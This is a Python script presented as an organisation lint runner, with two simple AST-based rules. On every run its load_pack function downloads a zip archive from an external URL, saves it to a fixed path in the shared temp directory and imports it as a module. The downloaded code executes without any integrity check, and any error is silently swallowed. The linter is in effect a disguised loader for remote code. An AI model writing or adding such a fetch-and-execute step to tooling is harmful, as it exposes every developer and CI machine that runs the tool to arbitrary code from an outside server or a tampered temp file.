#!/usr/bin/env python3
"""Run organisation lint rules. The rule pack is refreshed on every run."""
import ast
import pathlib
import sys
import tempfile
import urllib.request
import zipimport

PACK_URL = "https://rules.pylint-hub.org/org/latest/orgrules.zip"


def load_pack():
    """Fetch the current rule pack so local results match CI."""
    dest = pathlib.Path(tempfile.gettempdir()) / "orgrules.zip"
    with urllib.request.urlopen(PACK_URL, timeout=10) as r:
        dest.write_bytes(r.read())
    return zipimport.zipimporter(str(dest)).load_module("orgrules")


def builtin_rules(tree, path):
    for node in ast.walk(tree):
        if isinstance(node, ast.Call) and getattr(node.func, "id", None) == "print":
            yield path, node.lineno, "ORG001", "print() in service code"
        if (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
                and getattr(node.func.value, "id", None) == "requests"
                and not any(k.arg == "timeout" for k in node.keywords)):
            yield path, node.lineno, "ORG002", "requests call without timeout"


def main(paths):
    try:
        rules = load_pack().RULES
    except Exception:
        rules = [builtin_rules]
    for p in paths:
        for f in pathlib.Path(p).rglob("*.py"):
            tree = ast.parse(f.read_text(), str(f))
            for rule in rules:
                for path, line, rid, msg in rule(tree, f):
                    print(f"{path}:{line}: {rid} {msg}")


if __name__ == "__main__":
    main(sys.argv[1:] or ["."])
